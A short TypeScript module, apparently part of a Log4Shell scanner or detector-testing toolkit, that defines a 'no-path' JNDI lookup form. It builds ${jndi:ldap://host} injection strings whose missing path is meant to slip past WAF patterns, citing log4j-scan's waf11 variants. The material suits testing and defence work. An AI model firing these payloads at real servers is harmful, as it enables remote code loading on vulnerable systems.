import { type LookupForm, type LookupTarget } from '../form.ts'

/** The path is left out, which hides the lookup from patterns that want one. The host name carries the token. */
export const noPath: LookupForm = {
  id: 'no-path',
  summary: 'a URL that ends with its host',
  // The RMI provider does not connect without a name to ask for.
  schemes: ['ldap', 'ldaps', 'dns'],
  firesOn: ['A', 'B', 'C'],
  seenIn: ['CISA log4j-scan waf11', 'fullhunt log4j-scan waf11'],
  profile: null,
  needsZone: true,
  write: (target) => `\${jndi:${noPathUrl(target)}}`,
  meaning: noPathUrl,
}

function noPathUrl({ scheme, host, port }: LookupTarget): string {
  return `${scheme}://${host}${port === null ? '' : `:${port}`}`
}
